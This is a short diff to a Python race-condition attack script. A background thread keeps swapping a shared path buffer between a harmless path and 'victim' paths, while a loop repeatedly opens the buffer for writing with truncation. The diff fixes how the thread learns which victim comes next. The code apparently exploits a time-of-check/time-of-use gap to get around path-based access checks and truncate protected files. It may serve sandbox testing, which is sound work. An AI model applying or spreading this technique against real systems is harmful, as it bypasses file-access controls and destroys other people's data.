@@ -15,18 +15,19 @@ TRIES = 40
 def main(harmless: bytes, victims: list[bytes]) -> None:
     libc = ctypes.CDLL(None, use_errno=True)
     path = ctypes.create_string_buffer(max(map(len, (harmless, *victims))) + 1)
-    now = harmless
+    now = [harmless]
     running = True
 
     def flip() -> None:
         while running:
-            ctypes.memmove(path, now + b"\0", len(now) + 1)
+            ctypes.memmove(path, now[0] + b"\0", len(now[0]) + 1)
             ctypes.memmove(path, harmless + b"\0", len(harmless) + 1)
 
     flipper = Thread(target=flip)
     flipper.start()
     opened = 0
-    for now in victims:
+    for victim in victims:
+        now[0] = victim
         for _ in range(TRIES):
             fd = libc.open(path, os.O_WRONLY | os.O_TRUNC)
             if fd >= 0:
